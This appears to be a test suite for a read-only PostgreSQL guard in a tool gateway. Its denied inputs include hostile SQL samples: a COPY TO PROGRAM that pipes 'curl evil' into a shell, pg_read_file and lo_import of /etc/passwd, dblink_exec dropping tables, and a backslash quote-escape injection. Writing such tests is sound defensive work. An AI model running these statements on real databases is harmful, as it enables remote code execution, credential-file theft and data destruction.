import { before, describe, test } from "node:test";
import assert from "node:assert/strict";
import { existsSync, readFileSync } from "node:fs";
import { compileSqlGuard, loadSqlParser, MAX_SQL_LENGTH, sqlParserReady, type SqlGuard } from "../../src/policy/guards/sql.js";

const REDTEAM = "/work/shared/redteam/cases.json";

let ro: SqlGuard;

before(async () => {
  await loadSqlParser();
  await loadSqlParser(); // idempotent
  ro = compileSqlGuard({ readOnly: true, dialect: "postgresql" });
});

function decide(sql: string, guard: SqlGuard = ro): string {
  return guard.judgeSql(sql).decision;
}

function denies(sql: string, reason?: RegExp, guard: SqlGuard = ro): void {
  const v = guard.judgeSql(sql);
  assert.equal(v.decision, "deny", `expected deny for ${sql}: ${v.reason}`);
  if (reason) assert.match(v.reason, reason);
}

function allows(sql: string, guard: SqlGuard = ro): void {
  const v = guard.judgeSql(sql);
  assert.equal(v.decision, "allow", `expected allow for ${sql}: ${v.reason}`);
}

describe("red-team corpus, category sql", () => {
  test("every sql case gets its expected decision; non-PostgreSQL dialects are refused at compile time", (t) => {
    if (!existsSync(REDTEAM)) return t.skip(`${REDTEAM} not present`);
    const cases = (JSON.parse(readFileSync(REDTEAM, "utf8")) as { id: string; category: string; input: string; expected: string; acceptable?: string[]; rules?: { dialect?: string } }[]).filter(
      (c) => c.category === "sql",
    );
    assert.ok(cases.length > 0);
    for (const c of cases) {
      const dialect = c.rules?.dialect ?? "postgresql";
      if (dialect !== "postgresql") {
        // The gateway refuses a server whose guard cannot read its dialect: every call is refused.
        assert.equal(c.expected, "deny", c.id);
        assert.throws(() => compileSqlGuard({ readOnly: true, dialect }), /not supported.*refuses this server/, c.id);
        continue;
      }
      const got = decide(c.input);
      assert.equal(got, c.expected, `${c.id}: ${c.input} -> ${ro.judgeSql(c.input).reason}`);
    }
  });
});

describe("dialect and configuration", () => {
  test("postgresql and postgres are accepted; mysql, sqlite, mssql and empty throw naming the refusal", () => {
    compileSqlGuard({ readOnly: true, dialect: "postgresql" });
    compileSqlGuard({ readOnly: true, dialect: "postgres" });
    for (const dialect of ["mysql", "sqlite", "mssql", ""]) {
      assert.throws(() => compileSqlGuard({ readOnly: true, dialect }), /refuses this server/);
    }
  });

  test("malformed functions.allow entries and empty argument lists throw", () => {
    assert.throws(() => compileSqlGuard({ readOnly: true, dialect: "postgresql", functions: { allow: ["a.b.c"] } }));
    assert.throws(() => compileSqlGuard({ readOnly: true, dialect: "postgresql", functions: { allow: ["f()"] } }));
    assert.throws(() => compileSqlGuard({ readOnly: true, dialect: "postgresql", arguments: [] }));
  });

  test("the parser reports ready after loading", () => {
    assert.equal(sqlParserReady(), true);
  });
});

describe("statement count: exactly one statement", () => {
  test("stacked COMMIT; DROP TABLE is denied as two statements", () => denies("COMMIT; DROP TABLE users", /2 statements/));
  test("SELECT 1; SELECT 2 is denied: even two reads are two statements", () => denies("SELECT 1; SELECT 2", /2 statements/));
  test("an empty statement list (comments and semicolons only) is denied", () => {
    denies(";;", /no statement/);
    denies("-- nothing\n/* at all */ ;", /no statement/);
  });
  test("empty SQL is denied as a parse error", () => denies("", /does not parse/));
  test("a semicolon inside dollar quoting is one statement and allowed", () => allows("SELECT $$;$$"));
  test("a semicolon inside a tagged dollar quote, a string and an identifier is one statement", () => allows(`SELECT $tag$; DROP TABLE t; $tag$, ';', ";" FROM t`));
  test("a statement hidden after a block comment or line comment is still seen", () => {
    denies("SELECT 1 /* harmless */; DELETE FROM t", /2 statements/);
    denies("SELECT 1 -- comment\n; DELETE FROM t", /2 statements/);
  });
  test("a write inside a comment is only a comment: one SELECT is allowed", () => {
    allows("SELECT 1 /* ; DELETE FROM t */");
    allows("SELECT 1 -- ; DELETE FROM t");
    allows("/* nested /* comment */ ; DROP */ SELECT 1");
  });
});

describe("statement kinds: only SELECT, VALUES, TABLE and EXPLAIN of them", () => {
  test("plain reads are allowed", () => {
    allows("SELECT now()");
    allows("SELECT count(*) FROM t GROUP BY x");
    allows("VALUES (1, 'a'), (2, 'b')");
    allows("TABLE users");
    allows("SELECT 1 UNION ALL SELECT 2 EXCEPT SELECT 3");
    allows("WITH RECURSIVE r(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM r WHERE n < 5) SELECT * FROM r");
    allows("SELECT * FROM a JOIN LATERAL (SELECT * FROM b WHERE b.id = a.id) s ON true");
    allows("SELECT * FROM t TABLESAMPLE bernoulli (10)");
  });
  test("quoted identifiers and names that look like write keywords are allowed", () => {
    allows(`SELECT "delete", "update" FROM flags`);
    allows("SELECT * FROM update_history JOIN deleted_items USING (id)");
  });
  test("data-modifying CTEs are denied, at any depth", () => {
    denies("WITH x AS (DELETE FROM t RETURNING *) SELECT * FROM x", /DELETE statement is nested/);
    denies("WITH x AS (INSERT INTO t VALUES (1) RETURNING 1) SELECT 1", /an INSERT statement is nested/);
    denies("WITH x AS (UPDATE t SET a = 1 RETURNING *) SELECT * FROM x", /UPDATE/);
    denies("SELECT * FROM (WITH y AS (DELETE FROM t RETURNING *) SELECT * FROM y) z", /DELETE/);
    denies("WITH a AS (WITH b AS (DELETE FROM t RETURNING *) SELECT * FROM b) SELECT * FROM a", /DELETE/);
  });
  test("a CTE followed by a write is a write statement", () => denies("WITH x AS (SELECT 1) DELETE FROM users", /DELETE/));
  test("SELECT INTO is denied: it creates a table", () => denies("SELECT * INTO new_table FROM t", /CREATE TABLE AS|SELECT INTO/));
  test("locking clauses are denied", () => {
    for (const lock of ["FOR UPDATE", "FOR SHARE", "FOR NO KEY UPDATE", "FOR KEY SHARE", "FOR UPDATE SKIP LOCKED"]) {
      denies(`SELECT * FROM t ${lock}`, /locking clause/);
    }
    denies("SELECT * FROM (SELECT * FROM t FOR UPDATE) s", /locking clause/);
  });
  test("EXPLAIN of a SELECT is allowed, with options that do not execute", () => {
    allows("EXPLAIN SELECT * FROM t");
    allows("EXPLAIN (VERBOSE, COSTS false) SELECT 1");
    allows("EXPLAIN (ANALYZE false) SELECT 1");
    allows("EXPLAIN (ANALYZE off, FORMAT JSON) SELECT 1");
  });
  test("EXPLAIN ANALYZE executes its statement and is denied, even of a SELECT", () => {
    denies("EXPLAIN ANALYZE DELETE FROM t");
    denies("EXPLAIN ANALYZE SELECT 1", /ANALYZE executes/);
    denies("EXPLAIN (ANALYZE) SELECT 1", /ANALYZE executes/);
    denies("EXPLAIN (ANALYZE true) SELECT 1", /ANALYZE executes/);
    denies("EXPLAIN (ANALYZE on) SELECT 1", /ANALYZE executes/);
    denies("EXPLAIN (ANALYZE 1) SELECT 1", /ANALYZE executes/);
  });
  test("EXPLAIN of a write or of EXECUTE is denied", () => {
    denies("EXPLAIN DELETE FROM t", /EXPLAIN of a DELETE/);
    denies("EXPLAIN EXECUTE p", /EXPLAIN of/);
    denies("EXPLAIN SELECT pg_sleep(1)", /pg_sleep/);
  });
  test("every other statement kind is denied, naming the kind", () => {
    const cases: [string, RegExp][] = [
      ["BEGIN", /transaction control/],
      ["COMMIT", /transaction control/],
      ["SET ROLE admin", /SET\/RESET/],
      ["SET search_path = evil", /SET\/RESET/],
      ["RESET ALL", /SET\/RESET/],
      ["SHOW search_path", /SHOW/],
      ["COPY t TO PROGRAM 'curl evil | sh'", /COPY/],
      ["COPY (SELECT 1) TO '/tmp/x'", /COPY/],
      ["DO $$ BEGIN DELETE FROM t; END $$", /DO/],
      ["CALL p()", /CALL/],
      ["LISTEN ch", /LISTEN/],
      ["NOTIFY ch, 'x'", /NOTIFY/],
      ["UNLISTEN *", /UNLISTEN/],
      ["PREPARE p AS SELECT 1", /PREPARE/],
      ["EXECUTE p", /EXECUTE/],
      ["DEALLOCATE p", /DEALLOCATE/],
      ["DECLARE c CURSOR FOR SELECT 1", /DECLARE CURSOR/],
      ["INSERT INTO t VALUES (1)", /INSERT/],
      ["UPDATE t SET a = 1", /UPDATE/],
      ["DELETE FROM t", /DELETE/],
      ["MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN DELETE", /MERGE/],
      ["TRUNCATE t", /TRUNCATE/],
      ["DROP TABLE t", /DROP/],
      ["CREATE TABLE x AS SELECT 1", /CREATE TABLE AS/],
      ["VACUUM t", /VACUUM/],
      ["LOCK TABLE t", /LOCK/],
      ["ALTER SYSTEM SET x = 1", /ALTER SYSTEM/],
    ];
    for (const [sql, why] of cases) denies(sql, why);
  });
});

describe("functions: allowlisted side-effect-free built-ins only, anywhere in the tree", () => {
  test("common pure functions and SQL-syntax forms are allowed", () => {
    allows("SELECT pg_size_pretty(pg_total_relation_size('orders'))");
    allows("SELECT current_date, current_timestamp, localtime, date_trunc('day', now()), extract(year FROM now())");
    allows("SELECT coalesce(a, b), nullif(a, 0), greatest(1, 2), least(1, 2), x::int, cast(y AS text) FROM t");
    allows("SELECT trim(' a '), substring('abc' FROM 2), position('a' IN 'cab'), overlay('abc' PLACING 'x' FROM 1), lower(name) FROM t");
    allows("SELECT string_agg(name, ','), array_agg(id), jsonb_agg(t), bool_and(ok) FROM t");
    allows("SELECT row_number() OVER (PARTITION BY a ORDER BY b), lag(x) OVER w FROM t WINDOW w AS (ORDER BY b)");
    allows("SELECT * FROM generate_series(1, 10) g, unnest(ARRAY[1, 2]) u");
    allows("SELECT jsonb_build_object('a', 1) -> 'a', to_char(now(), 'YYYY'), md5('x'), regexp_replace('a', 'a', 'b')");
    allows("SELECT pg_catalog.now(), PG_CATALOG.LOWER('A')");
    allows(`SELECT "now"()`);
    allows("SELECT now() AT TIME ZONE 'UTC'");
    allows("SELECT system_user, current_user, session_user, 'a' SIMILAR TO 'b'");
    allows("SELECT * FROM XMLTABLE('/a' PASSING '<a/>' COLUMNS x int PATH 'x')");
  });
  test("dangerous built-ins are denied, named in the reason", () => {
    const cases = [
      "SELECT pg_sleep(10)",
      "SELECT pg_sleep_for('1 second')",
      "SELECT pg_read_file('/etc/passwd')",
      "SELECT pg_read_binary_file('/etc/passwd')",
      "SELECT pg_ls_dir('/')",
      "SELECT pg_stat_file('/etc/passwd')",
      "SELECT lo_import('/etc/passwd')",
      "SELECT lo_export(1, '/tmp/x')",
      "SELECT lo_create(0)",
      "SELECT lo_unlink(1)",
      "SELECT lo_from_bytea(0, 'x')",
      "SELECT dblink('dbname=x', 'select 1')",
      "SELECT dblink_exec('dbname=prod', 'DROP TABLE users')",
      "SELECT set_config('x', 'y', false)",
      "SELECT nextval('s')",
      "SELECT setval('s', 1)",
      "SELECT currval('s')",
      "SELECT pg_terminate_backend(1)",
      "SELECT pg_cancel_backend(1)",
      "SELECT pg_reload_conf()",
      "SELECT pg_rotate_logfile()",
      "SELECT query_to_xml('delete from t', true, true, '')",
      "SELECT table_to_xml('t', true, true, '')",
      "SELECT cursor_to_xml('c', 1, true, true, '')",
      "SELECT database_to_xml(true, true, '')",
      "SELECT txid_current()",
      "SELECT pg_advisory_lock(1)",
      "SELECT pg_advisory_xact_lock(1)",
      "SELECT purge_old_orders()",
    ];
    for (const sql of cases) {
      const name = /SELECT ([a-z_]+)\(/.exec(sql)![1]!;
      denies(sql, new RegExp(`function ${name} is not on the read-only allowlist`));
    }
  });
  test("case, quoting, schema-qualification and unicode escapes do not smuggle a function", () => {
    denies(`SELECT "pg_sleep"(1)`, /pg_sleep/);
    denies(`SELECT "PG_SLEEP"(1)`, /"PG_SLEEP"/); // a different (user) function to PostgreSQL, still unknown
    denies("SELECT PG_SLEEP(1)", /pg_sleep/);
    denies("SELECT PG_CATALOG.PG_READ_FILE('/etc/passwd')", /pg_catalog\.pg_read_file/);
    denies(`SELECT "pg_catalog"."pg_read_file"('/etc/passwd')`, /pg_read_file/);
    denies(`SELECT U&"pg\\0073leep"(1)`, /pgsleep/);
    denies(`SELECT U&"pg_\\0073leep"(1)`, /pg_sleep/);
    denies("SELECT public.now()", /public\.now/); // a user function named like a built-in
    denies("SELECT mydb.pg_catalog.now()", /across databases/);
  });
  test("a function is found in every position: FROM, subquery, CTE, WHERE, ORDER BY, JOIN ON, VALUES, window, filter, LATERAL", () => {
    const cases = [
      "SELECT * FROM pg_read_file('/etc/passwd')",
      "SELECT * FROM ROWS FROM (generate_series(1, 2), pg_ls_dir('/'))",
      "SELECT (SELECT pg_sleep(1))",
      "SELECT * FROM t WHERE EXISTS (SELECT pg_sleep(1))",
      "WITH c AS (SELECT pg_sleep(1)) SELECT * FROM c",
      "SELECT * FROM t WHERE id = pg_sleep(1)::text::int",
      "SELECT * FROM t ORDER BY pg_sleep(1)",
      "SELECT * FROM t GROUP BY a HAVING count(*) > 0 AND pg_sleep(1) IS NULL",
      "SELECT * FROM a JOIN b ON a.id = b.id AND pg_sleep(1) IS NULL",
      "VALUES (pg_sleep(1))",
      "SELECT count(*) FILTER (WHERE pg_sleep(1) IS NULL) FROM t",
      "SELECT row_number() OVER (ORDER BY pg_sleep(1)) FROM t",
      "SELECT * FROM t, LATERAL (SELECT pg_sleep(1)) s",
      "SELECT 1 UNION SELECT pg_sleep(1)::text::int",
      "SELECT ARRAY[pg_sleep(1)]",
      "SELECT CASE WHEN true THEN pg_sleep(1) END",
      "SELECT coalesce(pg_sleep(1), NULL)",
      "SELECT * FROM t LIMIT (SELECT pg_sleep(1))::text::int",
      "SELECT * FROM t TABLESAMPLE bernoulli (pg_sleep(1)::text::float)",
      "EXPLAIN SELECT * FROM t WHERE pg_sleep(1) IS NULL",
    ];
    cases.push("SELECT * FROM XMLTABLE('/a' PASSING pg_read_file('/x') COLUMNS x int PATH 'x')", "SELECT JSON_VALUE(pg_read_file('/x')::jsonb, '$.a')");
    for (const sql of cases) denies(sql, /pg_sleep|pg_ls_dir|pg_read_file/);
  });
  test("a user-defined TABLESAMPLE method is denied", () => denies("SELECT * FROM t TABLESAMPLE evil_method (1)", /TABLESAMPLE method/));
  test("functions.allow extends the allowlist, case-folded for unquoted names, exact for quoted, schema-aware", () => {
    const g = compileSqlGuard({ readOnly: true, dialect: "postgresql", functions: { allow: ["Safe_Report", "reports.Monthly", `"MixedCase"`] } });
    allows("SELECT safe_report()", g);
    allows("SELECT SAFE_REPORT()", g);
    allows("SELECT pg_catalog.safe_report()", g);
    allows("SELECT reports.monthly(1)", g);
    allows(`SELECT "MixedCase"()`, g);
    denies("SELECT other.safe_report()", /other\.safe_report/, g); // unqualified entry does not cover other schemas
    denies("SELECT monthly(1)", /monthly/, g); // qualified entry does not cover the unqualified name
    denies("SELECT mixedcase()", /mixedcase/, g); // quoted entry keeps its case
    denies("SELECT safe_report()"); // the default guard does not know it
    denies("SELECT pg_sleep(1)", /pg_sleep/, g); // extending does not loosen the rest
  });
});

describe("bounds, parse errors and the backslash quirk", () => {
  test("a syntax error is denied with the parser's message and at most ~200 characters of the SQL", () => {
    const v = ro.judgeSql(`SELECT FROM WHERE ${"x".repeat(1000)} ((`);
    assert.equal(v.decision, "deny");
    assert.match(v.reason, /does not parse as PostgreSQL \(syntax error/);
    assert.ok(v.reason.length < 500, `reason is ${v.reason.length} characters`);
  });
  test("SQL longer than the bound is denied without parsing", () => {
    denies(`SELECT '${"a".repeat(MAX_SQL_LENGTH)}'`, /characters long/);
  });
  test("deep nesting is denied, by the walk's depth cap or the parser's own limit", () => {
    denies(`SELECT ${"(SELECT ".repeat(400)}1${")".repeat(400)}`, /nested too deeply/);
    denies(`SELECT ${"ARRAY[".repeat(3000)}1${"]".repeat(3000)}`, /nested too deeply/);
    denies(`SELECT ${"(SELECT ".repeat(3000)}1${")".repeat(3000)}`); // the parse itself fails
    allows(`SELECT ${"(SELECT ".repeat(50)}1${")".repeat(50)}`); // ordinary nesting is fine
  });
  test("a NUL character is denied", () => denies("SELECT 1\0; DROP TABLE t", /NUL/));
  test("a backslash in a regular string literal is denied (standard_conforming_strings off reads it as an escape)", () => {
    denies(`SELECT 'x\\'' ; DROP TABLE t; --'`, /backslash/);
    denies(`SELECT 'C:\\temp'`, /backslash/);
  });
  test("backslashes outside regular string literals are fine", () => {
    allows(`SELECT E'C:\\\\temp', $$a\\b$$, "a\\b" FROM t -- \\`);
  });
  test("readOnly false leaves statements unrestricted but still denies what does not parse", () => {
    const rw = compileSqlGuard({ readOnly: false, dialect: "postgres" });
    allows("INSERT INTO t VALUES (1); SELECT pg_sleep(1)", rw);
    denies("INSERT INTO", /does not parse/, rw);
  });
});

describe("check: finding the SQL argument", () => {
  test("the sql and query arguments are judged by default", () => {
    assert.equal(ro.check("query", { sql: "SELECT 1" })?.decision, "allow");
    assert.equal(ro.check("query", { query: "DELETE FROM t" })?.decision, "deny");
    assert.match(ro.check("run", { query: "DELETE FROM t" })!.reason, /argument 'query' of tool 'run'/);
  });
  test("every SQL argument present is judged: one bad one denies", () => {
    assert.equal(ro.check("q", { sql: "SELECT 1", query: "DROP TABLE t" })?.decision, "deny");
  });
  test("a call without a SQL argument is not judged, even with other strings", () => {
    assert.equal(ro.check("list_tables", {}), undefined);
    assert.equal(ro.check("describe", { table: "DROP TABLE t", schema: "public" }), undefined);
  });
  test("configured argument names replace the defaults", () => {
    const g = compileSqlGuard({ readOnly: true, dialect: "postgresql", arguments: ["statement"] });
    assert.equal(g.check("run", { statement: "DELETE FROM t" })?.decision, "deny");
    assert.equal(g.check("run", { statement: "SELECT 1" })?.decision, "allow");
    assert.equal(g.check("run", { sql: "DELETE FROM t" }), undefined);
  });
  test("a non-string SQL argument is denied", () => {
    for (const value of [null, 42, ["SELECT 1"], { text: "SELECT 1" }, true]) {
      const v = ro.check("query", { sql: value });
      assert.equal(v?.decision, "deny", JSON.stringify(value));
      assert.match(v!.reason, /not SQL text/);
    }
  });
  test("an inherited property is not an argument", () => {
    const input = Object.create({ sql: "DROP TABLE t" }) as Record<string, unknown>;
    assert.equal(ro.check("query", input), undefined);
  });
  test("decide helper sanity: verdicts carry the rule that decided", () => {
    assert.equal(ro.judgeSql("SELECT 1").rule, "guards.sql.readOnly");
    assert.equal(ro.judgeSql("SELECT pg_sleep(1)").rule, "guards.sql.functions");
    assert.equal(decide("SELECT 1"), "allow");
  });
});
